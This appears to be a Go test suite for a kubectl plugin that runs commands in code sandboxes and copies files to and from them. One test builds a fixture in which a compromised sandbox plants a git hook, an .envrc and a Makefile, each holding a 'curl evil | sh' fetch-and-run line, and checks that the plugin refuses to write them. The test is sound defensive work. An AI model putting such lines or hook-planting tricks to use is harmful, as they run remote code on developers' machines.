package main

import (
	"archive/tar"
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/code-sandbox/code-sandbox-operator/internal/execio"
	"github.com/code-sandbox/code-sandbox-operator/internal/history"
	"github.com/code-sandbox/code-sandbox-operator/internal/sandboxclient/sandboxclienttest"
	"github.com/code-sandbox/code-sandbox-operator/internal/subresource"
)

func TestKubectlSandbox(t *testing.T) {
	RegisterFailHandler(Fail)
	RunSpecs(t, "kubectl-sandbox unit suite")
}

var _ = Describe("Parsing arguments", Label("unit"), func() {
	DescribeTable("cp specs",
		func(arg string, want copySpec) {
			got, err := parseCopySpec(arg)
			Expect(err).NotTo(HaveOccurred())
			Expect(got).To(Equal(want))
		},
		Entry("a sandbox path", "box:/app/x", copySpec{Sandbox: &sandboxRef{Name: "box"}, Path: "/app/x"}),
		Entry("a relative sandbox path", "box:data.csv", copySpec{Sandbox: &sandboxRef{Name: "box"}, Path: "data.csv"}),
		Entry("with a namespace", "team-a/box:/tmp", copySpec{Sandbox: &sandboxRef{Namespace: "team-a", Name: "box"}, Path: "/tmp"}),
		Entry("a dotted name", "box.v2:/app", copySpec{Sandbox: &sandboxRef{Name: "box.v2"}, Path: "/app"}),
		Entry("a local path", "./out", copySpec{Path: "./out"}),
		Entry("a local path with a colon, written as ./", "./a:b", copySpec{Path: "./a:b"}),
		Entry("an absolute local path with a colon", "/tmp/a:b", copySpec{Path: "/tmp/a:b"}),
		Entry("a local name that is no DNS name", "My_File:x", copySpec{Path: "My_File:x"}),
		Entry("too many slashes", "a/b/c:x", copySpec{Path: "a/b/c:x"}),
	)

	It("refuses a sandbox with no path", func() {
		_, err := parseCopySpec("box:")
		Expect(err).To(MatchError(ContainSubstring("names no path")))
	})

	DescribeTable("sandbox names",
		func(arg, want string) {
			got, err := parseSandboxName(arg)
			Expect(err).NotTo(HaveOccurred())
			Expect(got).To(Equal(want))
		},
		Entry("plain", "box", "box"),
		Entry("sandbox/", "sandbox/box", "box"),
		Entry("sbx/", "sbx/box", "box"),
	)

	It("refuses invalid sandbox names", func() {
		_, err := parseSandboxName("Box_1")
		Expect(err).To(MatchError(ContainSubstring(`invalid sandbox name "Box_1"`)))
		_, err = parseSandboxName("sbx/")
		Expect(err).To(HaveOccurred())
	})

	It("checks environment variables", func() {
		Expect(parseEnv([]string{"A=1", "_B=", "C2=x=y"})).To(Equal([]string{"A=1", "_B=", "C2=x=y"}))
		_, err := parseEnv([]string{"NOVALUE"})
		Expect(err).To(MatchError(ContainSubstring("want KEY=VALUE")))
		_, err = parseEnv([]string{"1A=x"})
		Expect(err).To(MatchError(ContainSubstring("not a variable name")))
	})
})

var _ = Describe("History lines", Label("unit"), func() {
	start := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	DescribeTable("are TIME exit=N DURATION [markers] COMMAND",
		func(r history.Record, want string) {
			r.StartedAt = start
			Expect(formatRecord(r)).To(Equal(want))
		},
		Entry("argv", history.Record{Command: []string{"python3", "-c", "print('hi')"}, DurationMillis: 1234},
			`2026-01-02T03:04:05Z exit=0 1.234s python3 -c 'print('\''hi'\'')'`),
		Entry("shell", history.Record{Shell: "ls | wc -l", ExitCode: 1, DurationMillis: 5},
			`2026-01-02T03:04:05Z exit=1 5ms sh -c 'ls | wc -l'`),
		Entry("timeout", history.Record{Command: []string{"sleep", "100"}, ExitCode: 137, TimedOut: true, Truncated: true, DurationMillis: 60000},
			`2026-01-02T03:04:05Z exit=137 1m0s timed-out truncated sleep 100`),
		Entry("error", history.Record{Command: []string{"x"}, ExitCode: -1, Error: "docker went away"},
			`2026-01-02T03:04:05Z exit=-1 0s error="docker went away" x`),
		Entry("control characters cannot forge lines", history.Record{Command: []string{"echo", "a\nfake line\x1b[2J"}},
			`2026-01-02T03:04:05Z exit=0 0s echo $'a\nfake line\x1b[2J'`),
		Entry("empty argument", history.Record{Command: []string{"echo", ""}}, `2026-01-02T03:04:05Z exit=0 0s echo ''`),
	)
})

// cli runs the plugin in-process against a fake API server.
type cli struct {
	cluster    *sandboxclienttest.Cluster
	kubeconfig string
}

func newCLI() *cli {
	GinkgoHelper()
	c := &cli{cluster: sandboxclienttest.New()}
	DeferCleanup(c.cluster.Close)
	c.cluster.AddSandbox("team-a", "box")
	c.kubeconfig = filepath.Join(GinkgoT().TempDir(), "kubeconfig")
	Expect(c.cluster.WriteKubeconfig(c.kubeconfig, "team-a", "user-token")).To(Succeed())
	// Runs before the cluster closes: nothing reached the node API that
	// the Sandbox's status names.
	DeferCleanup(func() {
		Expect(c.cluster.DecoyConnections()).To(BeZero(), "the plugin connected to status.nodeAPIEndpoint: %+v", c.cluster.DecoyRequests())
	})
	return c
}

// answer sets how the API server answers subresource calls.
func (c *cli) answer(h sandboxclienttest.Handler) { c.cluster.Handle(h) }

// last is the latest subresource call the API server received.
func (c *cli) last() sandboxclienttest.Request {
	GinkgoHelper()
	r, ok := c.cluster.LastSubresourceRequest()
	Expect(ok).To(BeTrue(), "the API server got no subresource call")
	return r
}

func (c *cli) run(stdin string, args ...string) (code int, stdout, stderr string) {
	var out, errOut bytes.Buffer
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	code = run(ctx, append([]string{"--kubeconfig", c.kubeconfig}, args...), strings.NewReader(stdin), &out, &errOut)
	return code, out.String(), errOut.String()
}

func frames(w http.ResponseWriter, fs ...map[string]any) {
	enc := json.NewEncoder(w)
	for _, f := range fs {
		_ = enc.Encode(f)
	}
}

// aggregated is where the subresources of team-a/box live on the API server.
const aggregated = "/apis/subresources.sandbox.code-sandbox.dev/v1alpha1/namespaces/team-a/sandboxes/box/"

var _ = Describe("kubectl sandbox", Label("unit"), func() {
	var c *cli
	BeforeEach(func() { c = newCLI() })

	Describe("exec", func() {
		It("streams output and exits with the command's exit code", func() {
			c.answer(func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				frames(w, map[string]any{"stream": "stdout", "data": []byte("out\n")}, map[string]any{"stream": "stderr", "data": []byte("err\n")},
					map[string]any{"result": execio.Result{ExitCode: 3}})
			})
			code, stdout, stderr := c.run("", "exec", "box", "-e", "A=1", "-w", "/tmp", "--timeout=90s", "--", "sh", "-c", "exit 3")
			Expect(code).To(Equal(3))
			Expect(stdout).To(Equal("out\n"))
			Expect(stderr).To(Equal("err\n"))

			r := c.last()
			var req execio.Request
			Expect(json.Unmarshal(r.Body, &req)).To(Succeed())
			Expect(req).To(Equal(execio.Request{Command: []string{"sh", "-c", "exit 3"}, Env: []string{"A=1"}, WorkingDir: "/tmp", TimeoutSeconds: 90}))
			Expect(r.Method).To(Equal(http.MethodPost))
			Expect(r.Path).To(Equal(aggregated + "exec"))
			Expect(r.Header.Get("Authorization")).To(Equal("Bearer user-token"))
			Expect(r.Header.Get("User-Agent")).To(HavePrefix("kubectl-sandbox/"))
			Expect(c.cluster.Requests()).To(HaveLen(1), "one request: the plugin does not read the Sandbox first")
		})

		It("sends stdin with -i and a shell line with --shell", func() {
			c.answer(func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				frames(w, map[string]any{"result": execio.Result{}})
			})
			code, _, stderr := c.run("print(1)\n", "exec", "box", "-i", "--shell", "python3 -")
			Expect(code).To(BeZero(), stderr)
			var req execio.Request
			Expect(json.Unmarshal(c.last().Body, &req)).To(Succeed())
			Expect(req.Shell).To(Equal("python3 -"))
			Expect(req.Command).To(BeEmpty())
			Expect(string(req.Stdin)).To(Equal("print(1)\n"))
			Expect(req.TimeoutSeconds).To(BeEquivalentTo(60))
		})

		It("exits 124 with a note when the command timed out, and warns about truncation", func() {
			c.answer(func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				frames(w, map[string]any{"result": execio.Result{ExitCode: 137, TimedOut: true, StdoutTruncated: true, StdoutBytes: 5 << 20}})
			})
			code, _, stderr := c.run("", "exec", "box", "--timeout=2s", "--", "yes")
			Expect(code).To(Equal(124))
			Expect(stderr).To(ContainSubstring("warning: stdout was truncated: the command wrote 5242880 bytes"))
			Expect(stderr).To(ContainSubstring("error: the command timed out after 2s and its processes were killed"))
		})

		It("explains a Sandbox that is not Ready and exits 1", func() {
			c.cluster.AddSandbox("team-a", "box", sandboxclienttest.NotReady("OOMKilled", "killed for exceeding resources.memory"))
			code, _, stderr := c.run("", "exec", "box", "--", "true")
			Expect(code).To(Equal(1))
			// The server's message names the Sandbox; it is not repeated.
			Expect(stderr).To(HavePrefix("error: sandbox team-a/box is not Ready: OOMKilled: killed for exceeding resources.memory"))
			Expect(stderr).To(HaveSuffix("(sandbox API, HTTP 409)\n"))
		})

		It("reports a refusal like kubectl", func() {
			c.answer(func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				sandboxclienttest.WriteStatus(w, http.StatusForbidden, metav1.StatusReasonForbidden, `sandboxes "box" is forbidden: User "bob" cannot create resource "sandboxes/exec"`)
			})
			code, _, stderr := c.run("", "-n", "team-a", "exec", "box", "--", "true")
			Expect(code).To(Equal(1))
			Expect(stderr).To(HavePrefix(`error: sandbox team-a/box: sandboxes "box" is forbidden`))
		})

		It("reports credentials the API server refuses", func() {
			code, _, stderr := c.run("", "--token", "stolen", "exec", "box", "--", "true")
			Expect(code).To(Equal(1))
			Expect(stderr).To(Equal("error: sandbox team-a/box: Unauthorized (sandbox API, HTTP 401)\n"))
		})

		It("works with a client-certificate kubeconfig", func() {
			c.answer(func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				frames(w, map[string]any{"stream": "stdout", "data": []byte("hi\n")}, map[string]any{"result": execio.Result{}})
			})
			Expect(sandboxclienttest.WriteKubeconfigFor(c.kubeconfig, c.cluster.CertConfig("alice"), "team-a")).To(Succeed())
			code, stdout, stderr := c.run("", "exec", "box", "--", "echo", "hi")
			Expect(code).To(BeZero(), stderr)
			Expect(stdout).To(Equal("hi\n"))
			r := c.last()
			Expect(r.User).To(Equal("alice"))
			Expect(r.ClientCertCN).To(Equal("alice"))
			Expect(r.Header.Get("Authorization")).To(BeEmpty())
		})

		It("works through a server URL with a path prefix, as kubectl proxy --api-prefix gives", func() {
			c.answer(func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				frames(w, map[string]any{"result": execio.Result{}})
			})
			c.cluster.ServeUnder("/proxy")
			cfg := c.cluster.RESTConfig("user-token")
			cfg.Host += "/proxy"
			Expect(sandboxclienttest.WriteKubeconfigFor(c.kubeconfig, cfg, "team-a")).To(Succeed())
			code, _, stderr := c.run("", "exec", "box", "--", "true")
			Expect(code).To(BeZero(), stderr)
			Expect(c.last().Path).To(Equal("/proxy" + aggregated + "exec"))
		})

		DescribeTable("refuses bad command lines with a pointer to the help",
			func(want string, args ...string) {
				code, _, stderr := c.run("", args...)
				Expect(code).To(Equal(1))
				Expect(stderr).To(ContainSubstring(want))
				Expect(stderr).To(ContainSubstring("See 'kubectl sandbox exec -h' for help and examples"))
			},
			Entry("no name", "a sandbox name is required", "exec"),
			Entry("no command", "no command", "exec", "box"),
			Entry("no --", "put -- between the sandbox name and the command", "exec", "box", "ls"),
			Entry("two names", "exactly one sandbox name", "exec", "a", "b", "--", "ls"),
			Entry("both forms", "either --shell or a command", "exec", "box", "--shell", "ls", "--", "ls"),
			Entry("bad timeout", "--timeout 0s must be more than 0", "exec", "box", "--timeout=0s", "--", "ls"),
			Entry("bad env", "want KEY=VALUE", "exec", "box", "-e", "X", "--", "ls"),
			Entry("bad limit", "--output-limit", "exec", "box", "--output-limit=lots", "--", "ls"),
			Entry("unknown flag", "unknown flag: --nope", "exec", "box", "--nope", "--", "ls"),
		)
	})

	Describe("cp", func() {
		It("uploads a directory's contents as a tar with POST", func() {
			c.answer(func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				_ = json.NewEncoder(w).Encode(execio.TransferStats{Files: 1})
			})
			src := GinkgoT().TempDir()
			Expect(os.WriteFile(filepath.Join(src, "main.py"), []byte("print(1)"), 0o644)).To(Succeed())
			code, _, stderr := c.run("", "cp", src, "box:/app/src")
			Expect(code).To(BeZero(), stderr)
			r := c.last()
			Expect(r.Method).To(Equal(http.MethodPost))
			Expect(r.Path).To(Equal(aggregated + "files"))
			Expect(r.Query.Get("path")).To(Equal("/app/src"))
			Expect(r.Header.Get("Content-Type")).To(Equal("application/x-tar"))
			Expect(r.Header.Get("Authorization")).To(Equal("Bearer user-token"))
			hdr, err := tar.NewReader(bytes.NewReader(r.Body)).Next()
			Expect(err).NotTo(HaveOccurred())
			Expect(hdr.Name).To(Equal("main.py"))
		})

		It("uploads a file into a directory path ending in /", func() {
			c.answer(func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				_ = json.NewEncoder(w).Encode(execio.TransferStats{Files: 1})
			})
			src := filepath.Join(GinkgoT().TempDir(), "run.sh")
			Expect(os.WriteFile(src, []byte("#!/bin/sh\n"), 0o755)).To(Succeed())
			code, _, stderr := c.run("", "cp", src, "team-a/box:/tmp/")
			Expect(code).To(BeZero(), stderr)
			r := c.last()
			Expect(r.Method).To(Equal(http.MethodPost))
			Expect(r.Query.Get("path")).To(Equal("/tmp/run.sh"))
			Expect(r.Query.Get("mode")).To(Equal("0755"))
			Expect(string(r.Body)).To(Equal("#!/bin/sh\n"))
		})

		// serve answers downloads with a tar of entries.
		serve := func(entries ...entry) {
			c.answer(func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				w.Header().Set("Trailer", "Sandbox-Transfer-Error")
				_, _ = io.Copy(w, tarOf(entries...))
			})
		}

		It("downloads a tree asked for with a trailing /, as a new directory", func() {
			serve(dir("out/"), file("out/r.txt", "result"))
			dst := filepath.Join(GinkgoT().TempDir(), "local")
			code, _, stderr := c.run("", "cp", "box:/app/out/", dst)
			Expect(code).To(BeZero(), stderr)
			Expect(readFile(filepath.Join(dst, "r.txt"))).To(Equal("result"))
			r := c.last()
			Expect(r.Method).To(Equal(http.MethodGet))
			Expect(r.Path).To(Equal(aggregated + "files"))
			Expect(r.Query.Get("path")).To(Equal("/app/out/"))

			// Again into the now existing directory: a new local/out.
			code, _, stderr = c.run("", "cp", "box:/app/out/", dst)
			Expect(code).To(BeZero(), stderr)
			Expect(readFile(filepath.Join(dst, "out", "r.txt"))).To(Equal("result"))

			// A third time: local/out exists, and trees are never merged.
			before := listing(dst)
			code, _, stderr = c.run("", "cp", "--overwrite", "box:/app/out/", dst)
			Expect(code).To(Equal(1))
			Expect(stderr).To(ContainSubstring("never merged"))
			Expect(listing(dst)).To(Equal(before))
		})

		It("refuses a directory planted where a file was asked for, writing nothing", func() {
			// The sandbox turned /app/report.txt into a directory of
			// things that run on the host once merged into a project.
			serve(dir("report.txt/"), dir("report.txt/.git/"), dir("report.txt/.git/hooks/"),
				entry{name: "report.txt/.git/hooks/pre-commit", typeflag: tar.TypeReg, body: "#!/bin/sh\ncurl evil | sh\n", mode: 0o755},
				file("report.txt/.envrc", "curl evil | sh\n"), file("report.txt/Makefile", "all:\n\tcurl evil | sh\n"))
			project := GinkgoT().TempDir()
			Expect(os.MkdirAll(filepath.Join(project, ".git", "hooks"), 0o755)).To(Succeed())
			Expect(os.WriteFile(filepath.Join(project, "Makefile"), []byte("mine\n"), 0o644)).To(Succeed())
			before := listing(project)
			for _, args := range [][]string{
				{"cp", "box:/app/report.txt", project},
				{"cp", "box:/app/report.txt", project + "/"},
				{"cp", "--overwrite", "--preserve-exec", "box:/app/report.txt", filepath.Join(project, "report.txt")},
			} {
				code, _, stderr := c.run("", args...)
				Expect(code).To(Equal(1), "%v", args)
				Expect(stderr).To(ContainSubstring("/app/report.txt is a directory in the sandbox, but a file was asked for"), "%v", args)
				Expect(listing(project)).To(Equal(before), "%v", args)
			}
		})

		It("refuses a file where a directory was asked for", func() {
			serve(file("out", "x"))
			dst := filepath.Join(GinkgoT().TempDir(), "local")
			code, _, stderr := c.run("", "cp", "box:/app/out/", dst)
			Expect(code).To(Equal(1))
			Expect(stderr).To(ContainSubstring("/app/out/ is a file in the sandbox, but a directory was asked for"))
			Expect(dst).NotTo(BeAnExistingFile())
		})

		It("replaces an existing file only with --overwrite", func() {
			serve(file("r.txt", "theirs"))
			dst := filepath.Join(GinkgoT().TempDir(), "r.txt")
			Expect(os.WriteFile(dst, []byte("mine"), 0o644)).To(Succeed())
			code, _, stderr := c.run("", "cp", "box:/app/r.txt", dst)
			Expect(code).To(Equal(1))
			Expect(stderr).To(ContainSubstring("exists"))
			Expect(readFile(dst)).To(Equal("mine"))
			code, _, stderr = c.run("", "cp", "box:/app/r.txt", dst, "--overwrite")
			Expect(code).To(BeZero(), stderr)
			Expect(readFile(dst)).To(Equal("theirs"))
		})

		It("drops exec bits and group/world write unless --preserve-exec", func() {
			if !withUmask(0o022) {
				Skip("Windows has no Unix modes (internal/hostfs tests its read-only attribute)")
			}
			serve(entry{name: "tool", typeflag: tar.TypeReg, body: "x", mode: 0o777})
			base := GinkgoT().TempDir()
			code, _, stderr := c.run("", "cp", "box:/app/tool", filepath.Join(base, "plain"))
			Expect(code).To(BeZero(), stderr)
			code, _, stderr = c.run("", "cp", "--preserve-exec", "box:/app/tool", filepath.Join(base, "exec"))
			Expect(code).To(BeZero(), stderr)
			fi, err := os.Stat(filepath.Join(base, "plain"))
			Expect(err).NotTo(HaveOccurred())
			Expect(fi.Mode()).To(Equal(os.FileMode(0o644)))
			fi, err = os.Stat(filepath.Join(base, "exec"))
			Expect(err).NotTo(HaveOccurred())
			Expect(fi.Mode()).To(Equal(os.FileMode(0o755)))
		})

		It("refuses the download flags on uploads", func() {
			code, _, stderr := c.run("", "cp", "--overwrite", GinkgoT().TempDir(), "box:/app/x")
			Expect(code).To(Equal(1))
			Expect(stderr).To(ContainSubstring("apply to downloads"))
		})

		It("fails a download cut off by the node, writing nothing", func() {
			c.answer(func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				w.Header().Set("Trailer", "Sandbox-Transfer-Error")
				_, _ = io.Copy(w, tarOf(dir("out/"), file("out/a", "a")))
				w.Header().Set("Sandbox-Transfer-Error", "too large: the download exceeds 8388608 bytes")
			})
			base := GinkgoT().TempDir()
			dst := filepath.Join(base, "local")
			code, _, stderr := c.run("", "cp", "box:/app/out/", dst)
			Expect(code).To(Equal(1))
			Expect(stderr).To(ContainSubstring("failed part-way: too large"))
			Expect(stderr).To(ContainSubstring("nothing was written to " + dst))
			Expect(listing(base)).To(Equal([]string{". drwx------"}))
		})

		It("reports a missing sandbox path", func() {
			c.answer(func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				sandboxclienttest.WriteStatus(w, http.StatusNotFound, metav1.StatusReasonNotFound, "path not found: /app/nope")
			})
			code, _, stderr := c.run("", "cp", "box:/app/nope", GinkgoT().TempDir())
			Expect(code).To(Equal(1))
			Expect(stderr).To(Equal("error: sandbox team-a/box: path not found: /app/nope (sandbox API, HTTP 404)\n"))
		})

		DescribeTable("refuses copies that are not local↔sandbox",
			func(want string, args ...string) {
				code, _, stderr := c.run("", append([]string{"cp"}, args...)...)
				Expect(code).To(Equal(1))
				Expect(stderr).To(ContainSubstring(want))
			},
			Entry("two sandboxes", "between two sandboxes", "a:/x", "b:/y"),
			Entry("two local paths", "neither", "./a", "./b"),
			Entry("one argument", "cp needs a source and a destination", "./a"),
		)
	})

	Describe("logs", func() {
		It("prints the container's output with --tail and -f", func() {
			c.answer(func(w http.ResponseWriter, _ *http.Request, _ []byte) { _, _ = w.Write([]byte("hello\n")) })
			code, stdout, _ := c.run("", "logs", "box", "--tail=5", "-f")
			Expect(code).To(BeZero())
			Expect(stdout).To(Equal("hello\n"))
			r := c.last()
			Expect(r.Method).To(Equal(http.MethodGet))
			Expect(r.Path).To(Equal(aggregated + "log"))
			Expect(r.Query.Get("tail")).To(Equal("5"))
			Expect(r.Query.Get("follow")).To(Equal("true"))
		})

		It("prints the exec history with --history", func() {
			c.answer(func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				_ = json.NewEncoder(w).Encode(history.Record{Command: []string{"ls"}, StartedAt: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC), DurationMillis: 20})
			})
			code, stdout, _ := c.run("", "logs", "sbx/box", "--history")
			Expect(code).To(BeZero())
			Expect(stdout).To(Equal("2026-01-02T03:04:05Z exit=0 20ms ls\n"))
			r := c.last()
			Expect(r.Method).To(Equal(http.MethodGet))
			Expect(r.Path).To(Equal(aggregated + "history"))
		})

		It("refuses --tail=0", func() {
			code, _, stderr := c.run("", "logs", "box", "--tail=0")
			Expect(code).To(Equal(1))
			Expect(stderr).To(ContainSubstring("--tail 0"))
		})
	})

	Describe("top", func() {
		It("prints a Sandbox's metrics as a table row, and refuses a reply of another version", func() {
			m := subresource.Metrics{Version: subresource.MetricsVersion, Name: "box", Paused: true,
				CPU: subresource.CPUMetrics{LimitCores: 1}, Memory: subresource.UsageMetrics{Used: 1 << 20, Limit: 512 << 20},
				Pids: subresource.UsageMetrics{Used: 2, Limit: 256}}
			c.answer(func(w http.ResponseWriter, _ *http.Request, _ []byte) { _ = json.NewEncoder(w).Encode(m) })
			code, stdout, stderr := c.run("", "top", "sbx/box")
			Expect(code).To(BeZero(), stderr)
			Expect(stdout).To(HavePrefix("NAME"))
			Expect(stdout).To(MatchRegexp(`\nbox +0\.000/1 +0% +1\.0Mi/512\.0Mi +0% +2/256 .* Paused\n`))
			r := c.last()
			Expect(r.Method).To(Equal(http.MethodGet))
			Expect(r.Path).To(Equal(aggregated + "metrics"))

			m.Version = "metrics.v9"
			code, _, stderr = c.run("", "top", "box")
			Expect(code).NotTo(BeZero())
			Expect(stderr).To(ContainSubstring(`metrics of version "metrics.v9"`))
			code, _, stderr = c.run("", "top", "a", "b")
			Expect(code).To(Equal(1))
			Expect(stderr).To(ContainSubstring("at most one sandbox name"))
		})
	})

	It("prints its version", func() {
		code, stdout, _ := c.run("", "version")
		Expect(code).To(BeZero())
		Expect(stdout).To(HavePrefix("kubectl-sandbox "))
	})
})
